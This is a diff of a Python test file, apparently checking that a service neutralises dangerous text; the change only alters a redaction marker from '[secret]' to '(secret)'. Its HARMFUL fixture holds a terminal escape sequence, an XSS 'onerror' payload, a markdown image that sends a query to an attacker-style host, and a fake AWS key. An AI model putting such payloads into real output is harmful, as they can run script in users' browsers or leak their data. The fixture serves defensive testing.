@@ -10,7 +10,7 @@ from tests.support.service import OTHER_API_KEY, Service
 from tests.support.traffic import ROOT, body, events, new_text, post, said, streamed
 
 HARMFUL = "Late.\x1b[2J <img src=x onerror=alert(1)> ![x](https://evil.example/?q=tea) AKIAQ3ZT7MNB2XKWPLDV"
-HARMLESS = "Late.\u241b[2J &lt;img src=x onerror=alert(1)> ![x](hxxps://evil.example/?q=tea) [secret]"
+HARMLESS = "Late.\u241b[2J &lt;img src=x onerror=alert(1)> ![x](hxxps://evil.example/?q=tea) (secret)"
 MAIL, PHONE = "canary-mail@example.org", "+44 20 7946 0958"
 
 
